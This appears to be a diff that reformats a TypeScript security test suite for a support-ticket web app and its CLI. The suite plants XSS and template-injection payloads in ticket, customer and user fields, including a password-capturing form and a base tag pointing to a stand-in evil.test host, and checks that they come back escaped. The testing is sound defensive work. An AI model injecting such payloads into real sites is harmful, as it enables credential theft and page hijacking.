@@ -55,7 +55,11 @@ async function plant(statement: string, values: readonly unknown[]): Promise<voi
 
 const PLACES: readonly (readonly [what: string, pages: readonly string[], statement: string])[] = [
   ['the subject', [PATH], `UPDATE tickets SET subject = $1 WHERE ticket_id = '${TICKET}'`],
-  ['the subject of a ticket without a proposal', ['/inbox?view=working'], `UPDATE tickets SET subject = $1 WHERE ticket_id = '${UNPROPOSED}'`],
+  [
+    'the subject of a ticket without a proposal',
+    ['/inbox?view=working'],
+    `UPDATE tickets SET subject = $1 WHERE ticket_id = '${UNPROPOSED}'`,
+  ],
   ['the body', [PATH], `UPDATE tickets SET body = $1 WHERE ticket_id = '${TICKET}'`],
   [
     'the customer’s name',
@@ -69,8 +73,16 @@ const PLACES: readonly (readonly [what: string, pages: readonly string[], statem
     [PATH],
     `UPDATE resolutions SET resolution = jsonb_set(resolution, '{reason}', to_jsonb($1::text))`,
   ],
-  ['the words of an action', ['/inbox', PATH, `${PATH}/edit`], 'UPDATE proposal_actions SET words = $1'],
-  ['a colleague’s name', ['/inbox', '/account'], `UPDATE users SET display_name = $1 WHERE user_id = 'agent'`],
+  [
+    'the words of an action',
+    ['/inbox', PATH, `${PATH}/edit`],
+    'UPDATE proposal_actions SET words = $1',
+  ],
+  [
+    'a colleague’s name',
+    ['/inbox', '/account'],
+    `UPDATE users SET display_name = $1 WHERE user_id = 'agent'`,
+  ],
 ];
 
 const PAYLOADS: readonly (readonly [what: string, payload: string])[] = [
@@ -82,7 +94,10 @@ const PAYLOADS: readonly (readonly [what: string, payload: string])[] = [
   ['an end of an attribute', `" autofocus onfocus=alert(1) x="`],
   ['an end of an attribute with other quotes', `' onmouseover='alert(1)`],
   ['a form of its own', `<form action="https://evil.test"><input name=password>`],
-  ['a style and a base', `<base href="//evil.test"><style>*{display:none}</style><meta http-equiv=refresh>`],
+  [
+    'a style and a base',
+    `<base href="//evil.test"><style>*{display:none}</style><meta http-equiv=refresh>`,
+  ],
   ['a comment', `<!-- --><!--[if IE]><script>1</script><![endif]-->`],
   ['entities', `&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;`],
   ['a template', `{{constructor.constructor('alert(1)')()}}\${alert(1)}<%= 1 %>`],
@@ -111,15 +126,18 @@ describe.each(PLACES)('in %s', (_where, pages, statement) => {
     plain = new Map(texts.map(([path, text]) => [path, structureOf(text)]));
   });
 
-  test.each(PAYLOADS)('%s is shown as it was written, and is nothing else', async (_what, payload) => {
-    await plant(statement, [payload]);
-    for (const path of pages) {
-      const { text, headers } = await agent.get(path);
-      expect(text).toContain(escaped(payload));
-      expect(structureOf(text)).toEqual(plain.get(path));
-      expect(headers.get('content-type')).toBe('text/html; charset=UTF-8');
-    }
-  });
+  test.each(PAYLOADS)(
+    '%s is shown as it was written, and is nothing else',
+    async (_what, payload) => {
+      await plant(statement, [payload]);
+      for (const path of pages) {
+        const { text, headers } = await agent.get(path);
+        expect(text).toContain(escaped(payload));
+        expect(structureOf(text)).toEqual(plain.get(path));
+        expect(headers.get('content-type')).toBe('text/html; charset=UTF-8');
+      }
+    },
+  );
 });
 
 test('what was typed comes back as text: in the search, at the sign-in, after a no', async () => {
@@ -133,7 +151,9 @@ test('what was typed comes back as text: in the search, at the sign-in, after a 
     const stale = await agent.post(`${PATH}/reject`, { ...fields, form_key: 'x', reason: payload });
     expect(stale.text).toContain(escaped(payload));
     for (const { text } of [search, wrong, stale]) {
-      expect(text).not.toMatch(/<(svg|img|iframe|base|style)|<script(?! src="\/assets\/inbox\.js")/i);
+      expect(text).not.toMatch(
+        /<(svg|img|iframe|base|style)|<script(?! src="\/assets\/inbox\.js")/i,
+      );
     }
   }
 });
@@ -218,7 +238,8 @@ test('a ticket by the API is stored without controls and marks that turn text ar
   const stored = await database.pool.query<{ text: string }>(
     `SELECT subject || body AS text FROM tickets WHERE external_id = 'ATTACK-1'`,
   );
-  for (const { text } of stored.rows) expect(text).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e\u2066]/);
+  for (const { text } of stored.rows)
+    expect(text).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e\u2066]/);
 });
 
 test.each(['<script>', '../../etc', 'a b', 'x\r\ny', 'é', '-1', '=1+1', ''])(
@@ -247,7 +268,9 @@ test('in the terminal such text moves no cursor, sets no title and turns nothing
   for (const args of [['list'], ['show', TICKET], ['show', TICKET, '--json']]) {
     const run = await runCli(args, { env: { DATABASE_URL: database.url } });
     expect(run.exitCode).toBe(0);
-    expect(run.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+    expect(run.stdout).not.toMatch(
+      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
+    );
   }
 });
 
